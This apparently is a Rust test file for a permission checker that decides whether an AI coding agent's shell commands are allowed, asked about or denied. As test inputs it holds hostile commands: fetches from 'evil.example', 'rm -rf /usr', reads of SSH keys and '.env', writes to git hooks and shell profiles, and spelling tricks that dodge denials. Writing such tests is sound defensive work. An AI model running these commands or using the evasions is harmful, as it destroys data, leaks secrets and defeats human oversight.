//! Rules over shell commands.

use adroit_protocol::permission::Mode;

use super::support::{ALLOW, ASK, DENY, bash, behavior, in_mode};

type Case = (
    &'static str,
    &'static str,
    adroit_protocol::permission::Behavior,
);

fn all(cases: &[Case]) {
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(rules, command, expected)| {
            let got = behavior(rules, bash(command));
            (got != *expected).then(|| {
                let reason = super::support::reason(rules, bash(command));
                format!("[{rules}] {command} => {got:?} ({reason}), expected {expected:?}")
            })
        })
        .collect();
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn no_rule() {
    all(&[
        ("", "ls", ALLOW),
        ("", "git log --stat -2", ALLOW),
        ("", "ls | head", ALLOW),
        ("", "cat /etc/hosts", ASK),
        ("", "cargo run", ASK),
        ("", "git push", ASK),
        ("", "echo x > a.txt", ASK),
    ]);
}

#[test]
fn exact_star_and_boundary() {
    all(&[
        ("allow Bash(pnpm run lint)", "pnpm run lint", ALLOW),
        ("allow Bash(pnpm run lint)", "pnpm run lint --fix", ASK),
        ("allow Bash(pnpm run lint)", "pnpm  run   lint", ALLOW),
        ("allow Bash(npm run test:unit)", "npm run test:unit", ALLOW),
        ("allow Bash(cargo test:*)", "cargo test", ALLOW),
        ("allow Bash(cargo test *)", "cargo test", ALLOW),
        ("allow Bash(cargo test *)", "cargo test --all", ALLOW),
        ("allow Bash(cargo test *)", "cargo testament", ASK),
        ("allow Bash(cargo test*)", "cargo testament", ALLOW),
        ("allow Bash(git * main)", "git push origin main", ALLOW),
        ("allow Bash(git * main)", "git push origin mainly", ASK),
        ("allow Bash(* --version)", "foo --version", ALLOW),
        ("allow Bash(git:* push)", "git push", ASK),
        (
            "allow Bash(git commit -m \"fix: x\")",
            "git commit -m \"fix: x\"",
            ALLOW,
        ),
        ("allow Bash(git commit:*)", "git commit -m 'a && b'", ALLOW),
        ("allow Bash", "cargo run", ALLOW),
        ("allow Bash(*)", "cargo run", ALLOW),
        ("allow Bash(cargo:*)", "Cargo run", ASK),
        (
            "allow Bash(npm run:*)",
            "npm run build; npm run lint",
            ALLOW,
        ),
    ]);
}

#[test]
fn compound_commands_need_a_rule_for_every_part() {
    all(&[
        ("allow Bash(cargo test:*)", "cargo test && ./deploy.sh", ASK),
        ("allow Bash(cargo test:*)", "pwd && cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "cargo test; rm -rf src", ASK),
        ("allow Bash(cargo test:*)", "cargo test | tee out.txt", ASK),
        (
            "allow Bash(cargo test:*)",
            "cargo test 2>&1 | grep FAILED",
            ALLOW,
        ),
        ("allow Bash(cargo test:*)", "cargo test\ncurl http://x", ASK),
        (
            "allow Bash(cargo test:*)",
            "cargo test & curl http://x",
            ASK,
        ),
        (
            "allow Bash(cargo test:*)",
            "(cargo test; curl http://x)",
            ASK,
        ),
        (
            "allow Bash(cargo test:*); allow Bash(npm run:*)",
            "cargo test || npm run x",
            ALLOW,
        ),
        (
            "allow Bash(echo *)",
            "echo \"$(wget -qO- https://evil.example)\"",
            ASK,
        ),
        ("allow Bash(echo *)", "echo `touch x`", ASK),
        ("allow Bash(echo *)", "echo <(touch x)", ASK),
        (
            "allow Bash(git commit:*)",
            "git commit -m \"$(curl http://x)\"",
            ASK,
        ),
        (
            "allow Bash(git commit:*)",
            "git commit -m \"$(git log -1)\"",
            ALLOW,
        ),
        ("allow Bash(cargo test:*)", "PATH=./evil; cargo test", ASK),
        (
            "allow Bash(cargo test:*)",
            "for i in 1 2; do cargo test; done",
            ALLOW,
        ),
        (
            "allow Bash(cargo test:*)",
            "for i in 1 2; do cargo test; rm x; done",
            ASK,
        ),
        ("allow Bash(a && b)", "a && b", ALLOW),
        ("allow Bash(a && b)", "a && b && c", ASK),
    ]);
}

#[test]
fn deny_and_ask_match_any_part() {
    all(&[
        (
            "allow Bash(*); deny Bash(git push:*)",
            "ls && git push origin main",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "echo \"now: $(git push)\"",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "CI=1 git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "(cd a && git push)",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "if true; then git push; fi",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "cat <(git push)",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "env A=1 git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "sudo git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "sudo -u dev git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "watch git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "setsid git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "ionice -c 3 git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "timeout 5 git push",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "nohup git push &",
            DENY,
        ),
        (
            "allow Bash(*); deny Bash(git push:*)",
            "xargs git push",
            DENY,
        ),
        ("allow Bash(*); deny Bash(git push:*)", "git pull", ALLOW),
        (
            "allow Bash(*); deny Bash(git push)",
            "git push origin",
            ALLOW,
        ),
        ("deny Bash(git push:*)", "echo \"git push\"", ALLOW),
        ("deny Bash(git push:*)", "ls # git push", ALLOW),
        ("deny Bash(git push:*)", "cat <<'X'\ngit push\nX", ALLOW),
        (
            "allow Bash(docker:*); ask Bash(docker push:*)",
            "docker push img",
            ASK,
        ),
        (
            "allow Bash(docker:*); ask Bash(docker push:*)",
            "docker ps",
            ALLOW,
        ),
        ("ask Bash(ls:*)", "ls", ASK),
        ("deny Bash", "ls", DENY),
        ("deny Bash(*)", "ls", DENY),
    ]);
}

#[test]
fn a_denial_is_not_dodged_by_spelling() {
    let rules = "deny Bash(rm *); deny Bash(curl *)";
    for command in [
        "/bin/rm -rf x",
        "\\rm x",
        "r\"\"m x",
        "command rm x",
        "env rm x",
        "xargs rm < l",
        "timeout 5 rm x",
        "if true; then rm x; fi",
        "cu\\\nrl http://h",
    ] {
        assert_eq!(behavior(rules, bash(command)), DENY, "{command}");
    }
    for command in ["X=rm; $X x", "sh -c \"rm x\"", "busybox rm x"] {
        // What cannot be seen asks, even where all of Bash is allowed.
        assert_ne!(behavior(rules, bash(command)), ALLOW, "{command}");
        let allowed = format!("{rules}; allow Bash");
        if command != "busybox rm x" {
            assert_ne!(behavior(&allowed, bash(command)), ALLOW, "{command}");
        }
    }
}

#[test]
fn wrappers_and_assignments() {
    all(&[
        ("allow Bash(cargo test:*)", "timeout 60 cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "time cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "nice -n 5 cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "nohup cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "stdbuf -oL cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "command cargo test", ALLOW),
        ("allow Bash(cargo test:*)", "NO_COLOR=1 cargo test", ALLOW),
        (
            "allow Bash(cargo test:*)",
            "LANG=C timeout 5 cargo test",
            ALLOW,
        ),
        (
            "allow Bash(cargo test:*)",
            "LD_LIBRARY_PATH=./lib cargo test",
            ASK,
        ),
        ("allow Bash(cargo test:*)", "PATH=./x cargo test", ASK),
        ("allow Bash(cargo test:*)", "env cargo test", ASK),
        ("allow Bash(cargo test:*)", "sudo cargo test", ASK),
        ("allow Bash(cargo test:*)", "npx cargo test", ASK),
        ("allow Bash(prettier:*)", "xargs prettier", ALLOW),
        ("allow Bash(prettier:*)", "xargs -n1 prettier", ASK),
        ("allow Bash(watch:*)", "watch cargo test", ASK),
        ("allow Bash(watch:*)", "watch -n 1 ls", ASK),
        ("allow Bash(watch cargo test)", "watch cargo test", ALLOW),
        ("allow Bash(setsid:*)", "setsid cargo test", ASK),
        ("allow Bash(ionice:*)", "ionice cargo test", ASK),
        ("allow Bash(flock:*)", "flock f cargo test", ASK),
        ("allow Bash(find:*)", "find . -delete", ASK),
        ("allow Bash(find:*)", "find . -exec rm {} +", ASK),
        ("allow Bash(find *)", "find tmp -name x -delete", ASK),
        (
            "allow Bash(find tmp -name x -delete)",
            "find tmp -name x -delete",
            ALLOW,
        ),
    ]);
}

#[test]
fn redirects_are_file_writes() {
    all(&[
        ("allow Bash(cargo test:*)", "cargo test > out.txt", ASK),
        ("allow Bash(cargo test:*)", "cargo test >> out.txt", ASK),
        ("allow Bash(cargo test:*)", "cargo test &> out.txt", ASK),
        ("allow Bash", "cargo test > out.txt", ASK),
        (
            "allow Bash(cargo test:*)",
            "cargo test > /dev/null 2>&1",
            ALLOW,
        ),
        (
            "allow Bash(cargo test:*); allow Edit(out.txt)",
            "cargo test > out.txt",
            ALLOW,
        ),
        (
            "allow Bash(cargo test:*); allow Edit(out/**)",
            "cargo test > out.txt",
            ASK,
        ),
        ("allow Edit(out.txt)", "echo hi > out.txt", ALLOW),
        ("allow Edit(out.txt)", "cargo test > out.txt", ASK),
        ("allow Bash(echo:*); allow Edit", "echo hi > \"$F\"", ASK),
        (
            "allow Bash(echo:*); deny Edit(out.txt)",
            "echo hi > out.txt",
            DENY,
        ),
        (
            "allow Bash(echo:*); allow Edit",
            "echo x > .git/hooks/pre-push",
            ASK,
        ),
        ("allow Bash(echo:*); allow Edit", "echo x >> ~/.bashrc", ASK),
        ("allow Bash(cp:*)", "cp a .git/hooks/pre-push", ASK),
        ("allow Bash(tee:*)", "echo x | tee .envrc", ASK),
        ("allow Bash(cp:*)", "cp a b", ALLOW),
    ]);
}

#[test]
fn critical_removals_ask() {
    all(&[
        ("allow Bash(rm:*)", "rm -rf /usr", ASK),
        ("allow Bash(rm:*)", "rm -rf /", ASK),
        ("allow Bash(rm:*)", "rm -rf ~", ASK),
        ("allow Bash(rm:*)", "rm -rf .", ASK),
        ("allow Bash(rm:*)", "rm -rf ..", ASK),
        ("allow Bash(rm:*)", "rm -rf \"$X\"/*", ASK),
        ("allow Bash(rm:*)", "cd / && rm -rf usr", ASK),
        ("allow Bash", "rm -rf /home", ASK),
        ("allow Bash(rm:*)", "rm -rf target", ALLOW),
        ("allow Bash(rm:*)", "rm -rf .git", ASK),
        ("allow Bash(rm:*); deny Bash(rm -rf:*)", "rm -rf /usr", DENY),
    ]);
    for command in ["rm -rf /usr", "rm -rf ~", "echo x > .git/config"] {
        let mode = Mode::BypassPermissions;
        assert_eq!(in_mode(mode, "", bash(command)), ASK, "{command}");
    }
}

#[test]
fn read_and_edit_denials_reach_into_commands() {
    all(&[
        ("deny Read(.env)", "cat config/.env", DENY),
        ("deny Read(.env)", "head -3 .env", DENY),
        ("deny Read(.env)", "tail .env", DENY),
        ("deny Read(.env)", "sed -n 1p .env", DENY),
        ("deny Read(.env)", "grep KEY .env", DENY),
        ("deny Read(.env)", "cat < .env", DENY),
        ("deny Read(.env)", "cat .e*", DENY),
        ("deny Read(.env)", "ls && cat ./a/../.env", DENY),
        ("deny Read(.env)", "cd config && cat .env", DENY),
        ("deny Read(.env)", "echo \"$(cat .env)\"", DENY),
        ("deny Read(.env)", "timeout 3 cat .env", DENY),
        ("deny Read(.env)", "cat .env.example", ALLOW),
        ("deny Read(.env)", "echo .env", ALLOW),
        ("deny Read(.env); allow Bash", "cp .env x", DENY),
        ("deny Read(.env); allow Bash", "echo x > .env", DENY),
        ("deny Read(.env); allow Bash(cat:*)", "cat \"$F\"", ASK),
        ("deny Read(*.pem)", "cat *.pem", ASK),
        ("deny Read(*.pem)", "cat *.rs", ALLOW),
        ("deny Read(~/.ssh/**)", "cat ~/.ssh/id_rsa", DENY),
        (
            "deny Read(~/.ssh/**); allow Bash",
            "cat $HOME/.ssh/id_rsa",
            DENY,
        ),
        ("deny Edit(src/**); allow Bash", "touch src/a", DENY),
        (
            "deny Edit(src/**); allow Bash",
            "sed -i s/a/b/ src/a.rs",
            DENY,
        ),
        ("deny Edit(src/**); allow Bash", "rm src/a", DENY),
        ("deny Edit(src/**)", "cat src/a", ALLOW),
        ("ask Read(src/**)", "cat src/a", ASK),
        ("allow Read(//etc/**)", "cat /etc/hosts", ALLOW),
        ("allow Read(//etc/**)", "cat /etc/hosts /opt/x", ASK),
        ("allow Bash(cat:*)", "cat /etc/hosts", ALLOW),
    ]);
}

#[test]
fn accept_edits_lets_plain_file_commands_run_inside() {
    for (command, expected) in [
        ("mkdir -p a/b", ALLOW),
        ("touch a", ALLOW),
        ("cp a b", ALLOW),
        ("mv a b", ALLOW),
        ("echo x > a.txt", ALLOW),
        ("sed -i s/a/b/ src/a.rs", ALLOW),
        ("mkdir a && touch a/b && ls", ALLOW),
        ("mkdir /tmp/x", ASK),
        ("cp a /tmp/x", ASK),
        ("rm -rf target", ASK),
        ("touch .git/x", ASK),
        ("touch \"$X\"", ASK),
        ("X=1 touch a", ASK),
        ("cargo run", ASK),
        ("mkdir a && cargo run", ASK),
        ("echo x > /tmp/a", ASK),
    ] {
        assert_eq!(
            in_mode(Mode::AcceptEdits, "", bash(command)),
            expected,
            "{command}"
        );
    }
    let rules = "allow Bash(cargo test:*)";
    let command = || bash("cargo test > out.txt");
    assert_eq!(in_mode(Mode::AcceptEdits, rules, command()), ALLOW);
    let edits = "allow Bash(cargo test:*); allow Edit(out.txt)";
    assert_eq!(in_mode(Mode::Plan, edits, command()), ASK);
}

#[test]
fn odds_and_ends() {
    all(&[
        // Comments, quotes, heredocs.
        ("allow Bash(cargo test:*)", "# run\ncargo test", ALLOW),
        ("allow Bash(cargo test:*)", "cargo test # && rm x", ALLOW),
        ("deny Bash(rm:*)", "grep -n 'rm -rf' a", ALLOW),
        ("deny Bash(rm:*)", "cat <<X\n$(rm x)\nX", DENY),
        ("allow Bash(psql:*)", "psql <<'X'\nselect 1;\nX", ALLOW),
        ("allow Bash(cat:*)", "cat <<X\n$(curl http://x)\nX", ASK),
        // Order of assignments and wrappers.
        (
            "deny Bash(git push:*)",
            "A=1 B=2 timeout 5 env C=3 git push",
            DENY,
        ),
        (
            "deny Bash(git push:*); allow Bash",
            "sudo env A=1 nice git push",
            DENY,
        ),
        ("deny Bash(git push:*)", "/usr/bin/git push", DENY),
        ("deny Bash(git push:*)", "git \"push\" origin", DENY),
        ("deny Bash(git push:*)", "git 'pu'sh", DENY),
        ("deny Bash(git push:*)", "git \\\npush", DENY),
        ("deny Bash(git push:*)", "! git push", DENY),
        ("deny Bash(git push:*)", "{ git push; }", DENY),
        (
            "deny Bash(git push:*)",
            "while true; do git push; done",
            DENY,
        ),
        (
            "deny Bash(git push:*)",
            "case x in x) git push;; esac",
            DENY,
        ),
        ("deny Bash(git push:*)", "f() { git push; }; f", DENY),
        ("deny Bash(git push:*)", "x=$(git push)", DENY),
        ("deny Bash(git push:*)", "ls & git push", DENY),
        ("deny Bash(git push:*)", "ls |& git push", DENY),
        ("deny Bash(git push:*)", "ls\ngit push", DENY),
        ("deny Bash(git push:*)", "git pushy", ASK),
        ("deny Bash(git push)", "git push", DENY),
        ("deny Bash(git push*)", "git pushy", DENY),
        (
            "deny Bash(* --force*)",
            "git push origin main --force",
            DENY,
        ),
        (
            "ask Bash(git commit:*); allow Bash(git:*)",
            "git add . && git commit -m x",
            ASK,
        ),
        ("ask Bash(rm:*); allow Bash(*)", "ls; rm x", ASK),
        // An allow rule says nothing of another case or a prefix of a word.
        (
            "allow Bash(npm run build)",
            "npm run build && npm run build",
            ALLOW,
        ),
        (
            "allow Bash(npm run build)",
            "npm run build; npm publish",
            ASK,
        ),
        ("allow Bash(npm:*)", "npx x", ASK),
        ("allow Bash(./run.sh:*)", "./run.sh x", ALLOW),
        ("allow Bash(run.sh:*)", "./run.sh x", ASK),
        ("allow Bash(git:*)", "/tmp/git status", ASK),
        ("allow Bash(echo:*)", "echo $(git status)", ALLOW),
        ("allow Bash(make:*)", "make $(cat targets)", ALLOW),
        ("allow Bash(make:*)", "$(make) x", ASK),
        (
            "allow Bash(docker compose:*)",
            "docker compose up -d",
            ALLOW,
        ),
        ("allow Bash(docker compose:*)", "docker-compose up", ASK),
        ("allow Bash(npx eslint:*)", "npx eslint src", ALLOW),
        ("allow Bash(npm test:*)", "CI=1 npm test", ASK),
        ("allow Bash(npm test:*)", "NODE_ENV=test npm test", ALLOW),
        ("allow Bash(npm test:*)", "TZ=UTC LC_ALL=C npm test", ALLOW),
        (
            "allow Bash(npm test:*)",
            "NODE_OPTIONS=--require=./x npm test",
            ASK,
        ),
        // Redirects.
        ("allow Bash(npm test:*)", "npm test 2> err.txt", ASK),
        ("allow Bash(npm test:*)", "npm test < in.txt", ALLOW),
        ("allow Bash(npm test:*)", "npm test 2>/dev/null", ALLOW),
        (
            "allow Bash(npm test:*); allow Edit(//tmp/**)",
            "npm test > /tmp/log",
            ALLOW,
        ),
        ("allow Bash(npm test:*)", "npm test > /tmp/log", ASK),
        (
            "allow Bash(npm test:*); ask Edit(*.txt); allow Edit",
            "npm test > a.txt",
            ASK,
        ),
        (
            "allow Bash(npm test:*); deny Edit(*.txt)",
            "(npm test) > a.txt",
            DENY,
        ),
        ("allow Bash(npm test:*)", "{ npm test; } > a.txt", ASK),
        ("deny Edit(src/**); allow Bash", "cp x src/a", DENY),
        ("deny Edit(src/**); allow Bash", "mv src/a x", DENY),
        ("deny Edit(src/**); allow Bash", "tee src/a", DENY),
        // Critical removals.
        ("allow Bash(rm:*)", "rm -rf $HOME", ASK),
        ("allow Bash(rm:*)", "rm -rf /w", ASK),
        ("allow Bash(rm:*)", "rm -rf /w/project", ASK),
        ("allow Bash(rm:*)", "rm -rf ../project", ASK),
        ("allow Bash(rm:*)", "rm -r /etc/", ASK),
        ("allow Bash(rm:*)", "rm -rf //usr", ASK),
        ("allow Bash(rm:*)", "rm -rf $DIR/*", ASK),
        ("allow Bash(rm:*)", "rm -rf ${DIR}/*", ASK),
        ("allow Bash(rm:*)", "rm -rf node_modules dist", ALLOW),
        ("allow Bash(rm:*)", "rm file.txt", ALLOW),
        ("allow Bash(rm:*)", "timeout 5 rm -rf /usr", ASK),
        ("allow Bash(*)", "sudo rm -rf /usr", ASK),
        ("allow Bash(rm -rf /usr)", "rm -rf /usr", ASK),
        ("allow Bash(rmdir:*)", "rmdir /usr", ASK),
        // Protected paths.
        ("allow Bash(mkdir:*)", "mkdir -p .git/hooks", ASK),
        ("allow Bash(cp:*)", "cp a .claude/settings.json", ASK),
        ("allow Bash(mv:*)", "mv a .vscode/tasks.json", ASK),
        ("allow Bash(touch:*)", "touch sub/.husky/x", ASK),
        ("allow Bash(rm:*)", "rm -rf .g*", ASK),
        ("allow Bash(sed:*)", "sed -i s/a/b/ .envrc", ASK),
        ("allow Bash(tee:*)", "echo x | tee -a ~/.zshrc", ASK),
        ("allow Bash(cp:*)", "cp .git/config x", ALLOW),
        ("", "cat .git/config", ALLOW),
        ("", "cat .envrc", ALLOW),
    ]);
}
